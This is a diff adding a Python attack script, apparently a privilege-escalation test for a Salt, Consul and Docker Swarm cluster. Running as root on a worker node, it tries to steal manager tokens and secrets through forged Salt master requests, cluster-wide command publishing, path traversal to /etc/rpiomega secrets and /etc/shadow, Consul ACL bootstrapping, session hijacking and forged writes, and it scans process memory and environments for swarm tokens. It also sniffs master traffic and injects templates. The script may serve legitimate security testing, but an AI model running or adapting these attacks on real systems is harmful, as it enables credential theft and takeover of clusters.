@@ -1,0 +1,335 @@
+"""Runs on a worker as root, with Salt's Python: try to get what only managers or the master may have.
+
+    attack.py OTHER_NODE MASTER_ADDRESS OUTPUT
+
+Every attempt writes one JSON line to OUTPUT: {"attempt": name, "gave": everything that came back}. What was obtained is
+judged elsewhere, by value; this program knows no secret. Nothing is destroyed that an apply does not mend.
+"""
+
+import asyncio
+import contextlib
+import glob
+import json
+import os
+import re
+import subprocess
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+import probe
+import salt.channel.client
+import salt.config
+
+OTHER, MASTER, OUTPUT = sys.argv[1:4]
+LIMIT = 4 << 20
+ATTEMPTS = []
+
+
+def attempt(function):
+    """Register an attempt; its docstring's first line is its name."""
+    ATTEMPTS.append(function)
+    return function
+
+
+def call(*words, bound=60):
+    """What a salt-call prints."""
+    try:
+        argv = ["salt-call", "--out=json", "--no-color", *words]
+        done = subprocess.run(argv, capture_output=True, text=True, timeout=bound, check=False)
+    except subprocess.TimeoutExpired as error:
+        return f"time-out; {error.stdout}"
+    return done.stdout + done.stderr
+
+
+def consul(*requests):
+    """What the agent answers with the worker's own token."""
+    return [probe.ask("consul", *request) for request in requests]
+
+
+def asked(load, crypt="aes"):
+    """What the master answers to a raw request over the minion's own channel, encrypted or clear."""
+
+    try:
+        opts = salt.config.minion_config("/etc/salt/minion")
+        opts["master_uri"] = f"tcp://{MASTER}:4506"
+        with salt.channel.client.ReqChannel.factory(opts, crypt=crypt) as channel:
+            return repr(channel.send(load, tries=1, timeout=10))
+    except Exception as error:  # noqa: BLE001 - whatever it is, it is what the attempt gave
+        return f"{type(error).__name__}: {error}"
+
+
+@attempt
+def mine():
+    """mine.get of everything of every node"""
+    names = ["*", "network.ip_addrs", "swarm.cluster", "pillar.items", "swarm.token", "cmd.run", "grains.items"]
+    load = {"cmd": "_mine_get", "id": "rpiomega-4", "tgt": "*", "tgt_type": "glob"}
+    return [call("mine.get", "*", name) for name in names[:3]] + [asked({**load, "fun": name}) for name in names]
+
+
+@attempt
+def pillar_of_others():
+    """pillar: own, with an overridden site, with another environment, of another node"""
+    site = {"rpiomega": {"nodes": {"rpiomega-4": {"address": "192.0.2.1", "roles": ["master", "manager"]}}}}
+    base = {"cmd": "_pillar", "ver": "2", "saltenv": "base", "pillarenv": None, "grains": {"roles": ["master"]}}
+    own = {**base, "id": "rpiomega-4"}
+    return [
+        call("pillar.raw"),
+        call("pillar.items", f"pillar={json.dumps(site)}"),
+        call("pillar.items", "pillarenv=base", "saltenv=base"),
+        asked({**own, "pillar_override": site}),
+        asked({**own, "extra_minion_data": site}),
+        asked({**own, "ext": {"rpiomega": {"secrets": "/etc/rpiomega/secrets"}}}),
+        asked({**own, "ext": {"cmd_json": "cat /etc/rpiomega/secrets/consul/management.token"}}),
+        asked({**base, "id": OTHER}),
+        asked({**base, "id": "rpiomega-master"}),
+        call(f"--id={OTHER}", "pillar.raw", bound=30),
+    ]
+
+
+@attempt
+def publish():
+    """publish to other minions"""
+    command = "cat /etc/rpiomega/secrets/consul/management.token; docker swarm join-token -q manager"
+    return [
+        call("publish.publish", "*", "cmd.run", command),
+        call("publish.full_data", "*", "pillar.raw"),
+        asked({"cmd": "minion_pub", "id": "rpiomega-4", "tgt": "*", "fun": "cmd.run", "arg": [command], "ret": ""}),
+        asked({"cmd": "minion_publish", "id": "rpiomega-4", "tgt": "*", "fun": "cmd.run", "arg": [command], "ret": ""}),
+    ]
+
+
+@attempt
+def peer_runner():
+    """runners and wheels of the master"""
+    found = [call("publish.runner", name) for name in ("manage.up", "pillar.show_pillar", "salt.cmd")]
+    load = {"cmd": "minion_runner", "id": "rpiomega-4", "fun": "pillar.show_pillar", "arg": ["rpiomega-master"]}
+    for kind in ("runner", "wheel"):
+        for name in ("pillar.show_pillar", "config.values", "key.list_all", "jobs.list_jobs"):
+            found.append(asked({"cmd": kind, "fun": name, "kwarg": {}}, crypt="clear"))
+    return [*found, asked(load)]
+
+
+@attempt
+def consul_keys():
+    """Consul: every key, the ACL system, the agent's own view"""
+    return consul(
+        ["GET", "/v1/kv/?recurse"],
+        ["GET", "/v1/kv/rpiomega/?recurse"],
+        ["GET", "/v1/acl/tokens"],
+        ["GET", "/v1/acl/policies"],
+        ["GET", "/v1/acl/token/self"],
+        ["PUT", "/v1/acl/bootstrap"],
+        ["PUT", "/v1/acl/token", {"Policies": [{"Name": "global-management"}]}],
+        ["PUT", "/v1/acl/login", {"AuthMethod": "minikube", "BearerToken": "x"}],
+        ["GET", "/v1/agent/self"],
+        ["GET", "/v1/agent/metrics"],
+        ["GET", "/v1/operator/keyring"],
+        ["GET", "/v1/operator/raft/configuration"],
+        ["PUT", "/v1/txn", [{"KV": {"Verb": "get-tree", "Key": ""}}]],
+        ["PUT", "/v1/event/fire/x", "x"],
+        ["GET", "/v1/kv/?recurse", None, "none"],
+        ["GET", "/v1/acl/tokens", None, "none"],
+        ["GET", "/v1/acl/tokens", None, "anonymous"],
+    )
+
+
+@attempt
+def consul_snapshot():
+    """Consul: a snapshot of everything"""
+    return consul(["GET", "/v1/snapshot"], ["GET", "/v1/snapshot?stale"], ["PUT", "/v1/snapshot", "x"])
+
+
+@attempt
+def jobs():
+    """jobs of others: listen to all that the master publishes, ask for their returns"""
+    found = [call("saltutil.find_cached_job", jid) for jid in _jids()]
+    found += [asked({"cmd": "pub_ret", "id": "rpiomega-4", "jid": jid}) for jid in _jids()]
+    return [*found, call("saltutil.running"), sniff(20)]
+
+
+def _jids():
+    return sorted(glob.glob("/var/cache/salt/minion/minion_jobs/*") or ["20260101000000000000"])[:5]
+
+
+def sniff(seconds):
+    """All that the master publishes within some seconds, decrypted with the key that every minion has."""
+
+    async def listen():
+        opts = salt.config.minion_config("/etc/salt/minion")
+        opts["master_ip"], opts["master_uri"] = MASTER, f"tcp://{MASTER}:4506"
+        seen = []
+        channel = salt.channel.client.AsyncPubChannel.factory(opts, io_loop=None)
+
+        async def take(payload):
+            seen.append(payload)
+
+        await channel.connect()
+        channel.on_recv(take)
+        await asyncio.sleep(seconds)
+        return seen
+
+    try:
+        return repr(asyncio.run(asyncio.wait_for(listen(), seconds + 20)))
+    except Exception as error:  # noqa: BLE001
+        return f"{type(error).__name__}: {error}"
+
+
+@attempt
+def spoofed_grains():
+    """grains that claim to be a manager and the master"""
+    found = [call("grains.setvals", '{"role": "manager", "roles": ["master", "manager"], "rpiomega_role": "manager"}')]
+    found += [call("saltutil.refresh_grains"), call("saltutil.refresh_pillar"), call("pillar.raw")]
+    found += [call("state.apply", "swarm", bound=240), call("mine.get", "*", "pillar.items")]
+    found += [call("grains.delkey", name) for name in ("role", "roles", "rpiomega_role")]
+    return found
+
+
+@attempt
+def stolen_session():
+    """Consul: sessions of others used to take, release or end their locks"""
+    listed = probe.ask("consul", "GET", "/v1/session/list")
+    ids = [one["ID"] for one in listed[1]] if listed[0] == 200 else []
+    found = [listed]
+    for one in ids:
+        found += consul(
+            ["PUT", f"/v1/kv/rpiomega/swarm/lock?acquire={one}", "mine"],
+            ["PUT", f"/v1/kv/rpiomega/swarm/lock?release={one}", "mine"],
+            ["PUT", f"/v1/kv/rpiomega/swarm/faults/lock?release={one}", "mine"],
+            ["PUT", f"/v1/session/renew/{one}"],
+            ["PUT", f"/v1/session/destroy/{one}"],
+        )
+    own = probe.ask("consul", "PUT", "/v1/session/create", {"TTL": "10s"})
+    if own[0] == 200:
+        found += consul(["PUT", f"/v1/kv/rpiomega/swarm/lock?acquire={own[1]['ID']}", "mine"])
+    return found
+
+
+@attempt
+def keys_of_others():
+    """Consul: write the record, the lock, the worker token, another node's entry"""
+    forged = {"node_id": "x", "cluster_id": "x", "address": "192.0.2.1", "role_now": "worker", "previous": []}
+    found = []
+    for key in ("record", "lock", "worker-token", f"nodes/{OTHER}", "nodes/unknown", "unknown"):
+        path = f"/v1/kv/rpiomega/swarm/{key}"
+        found += consul(["PUT", path, forged], ["DELETE", path])
+        found += consul(["PUT", "/v1/txn", [{"KV": {"Verb": "set", "Key": path[7:], "Value": "eA=="}}]])
+    return found
+
+
+@attempt
+def catalog_of_others():
+    """Consul: register health and services in the name of another node"""
+    check = {"CheckID": "serfHealth", "Name": "x", "Status": "critical"}
+    return consul(
+        ["PUT", "/v1/catalog/register", {"Node": OTHER, "Address": "192.0.2.1", "Check": check}],
+        ["PUT", "/v1/catalog/deregister", {"Node": OTHER}],
+        ["PUT", "/v1/agent/force-leave/" + OTHER],
+        ["PUT", "/v1/agent/service/register", {"Name": "consul", "ID": "consul"}],
+    )
+
+
+@attempt
+def file_server():
+    """the master's file server: everything it lists, and paths outside of it"""
+    listed = call("cp.list_master", bound=120)
+    found = [listed, call("cp.list_states"), call("cp.envs")]
+    try:
+        names = json.loads(listed)["local"]
+    except (ValueError, KeyError):
+        names = []
+    telling = [name for name in names if re.search(r"secret|pillar|token|key|site\.sls|\.pem", name)]
+    found += [call("cp.get_file_str", f"salt://{name}", bound=30) for name in telling[:20]]
+    for path in ("../../../etc/rpiomega/secrets/consul/management.token", "../pillar/site.sls", "/etc/shadow"):
+        found.append(call("cp.get_file_str", f"salt://{path}", bound=30))
+        load = {"cmd": "_serve_file", "path": path, "saltenv": "base", "loc": 0, "id": "rpiomega-4", "gzip": 0}
+        found.append(asked(load))
+    for env in ("base", "../../etc", "/etc/rpiomega", "pillar", "__env__"):
+        load = {"cmd": "_file_list", "saltenv": env, "id": "rpiomega-4", "prefix": ""}
+        found.append(asked(load))
+    return found
+
+
+@attempt
+def push_a_file():
+    """cp.push of a file onto the master"""
+    return [call("cp.push", "/etc/hostname"), call("cp.push_dir", "/etc/salt")]
+
+
+@attempt
+def master_internals():
+    """the master's own configuration and keys"""
+    loads = [{"cmd": name, "id": "rpiomega-4"} for name in ("_master_opts", "_master_tops", "_file_envs")]
+    loads += [{"cmd": "_return", "id": OTHER, "jid": "20260101000000000001", "fun": "test.ping", "return": True}]
+    loads += [{"cmd": "revoke_auth", "id": OTHER}]
+    clear = [{"cmd": "get_token", "token": "x"}, {"cmd": "publish", "fun": "cmd.run", "tgt": "*", "arg": ["id"]}]
+    return [asked(load) for load in loads] + [asked(load, crypt="clear") for load in clear]
+
+
+@attempt
+def engine():
+    """the engine: manager calls, its swarm folder, a demand for promotion"""
+    requests = [["GET", path] for path in ("/swarm", "/swarm/unlockkey", "/nodes", "/secrets", "/configs", "/tasks")]
+    requests += [["POST", "/nodes/self/update?version=1", {"Role": "manager"}]]
+    found = [probe.ask("docker", *request) for request in requests]
+    script = "docker swarm join-token -q manager; docker node promote self; docker swarm ca; find /var/lib/docker/swarm"
+    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60, check=False)
+    return [*found, done.stdout + done.stderr]
+
+
+@attempt
+def memory():
+    """the memory of every process on this node: engine, Consul agent, Salt minion"""
+    found = []
+    uuid = rb"[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}"
+    pattern = re.compile(rb"SWMTKN-1-[0-9a-z-]{60,90}|SWMKEY-1-[0-9A-Za-z+/]{40,}|" + uuid)
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        hits = set()
+        with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+            for line in maps:
+                span, rights = line.split()[:2]
+                start, end = (int(part, 16) for part in span.split("-"))
+                if not rights.startswith("rw") or end - start > 512 << 20:
+                    continue
+                with contextlib.suppress(OSError, ValueError, OverflowError):
+                    mem.seek(start)
+                    hits |= set(pattern.findall(mem.read(end - start)))
+        found += [hit.decode() for hit in hits]
+    return sorted(set(found))
+
+
+@attempt
+def environments():
+    """environment and arguments of every process"""
+    found = []
+    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+        with contextlib.suppress(OSError), open(path, "rb") as file:
+            found.append(file.read().decode(errors="replace"))
+    return found
+
+
+@attempt
+def forged_events():
+    """events that claim other nodes have joined"""
+    found = []
+    for name in ("rpiomega-4", OTHER, "stranger", "*", "{{ salt['cmd.run']('id') }}"):
+        found.append(call("event.send", "rpiomega/swarm/joined", json.dumps({"node": name})))
+    load = {"cmd": "_minion_event", "id": OTHER, "tag": "rpiomega/swarm/joined", "data": {"node": "rpiomega-4"}}
+    return [*found, asked(load), call("event.fire_master", '{"node": "rpiomega-4"}', "salt/auth")]
+
+
+def main():
+    """Run all attempts."""
+    with open(OUTPUT, "w", encoding="utf-8") as output:
+        for function in ATTEMPTS:
+            try:
+                gave = json.dumps(function(), default=repr)
+            except Exception as error:  # noqa: BLE001 - a failed attempt gave nothing, and says why
+                gave = f"{type(error).__name__}: {error}"
+            name = f"{function.__name__}: {function.__doc__.splitlines()[0]}"
+            output.write(json.dumps({"attempt": name, "gave": gave[:LIMIT]}) + "\n")
+            output.flush()
+
+
+if __name__ == "__main__":
+    main()
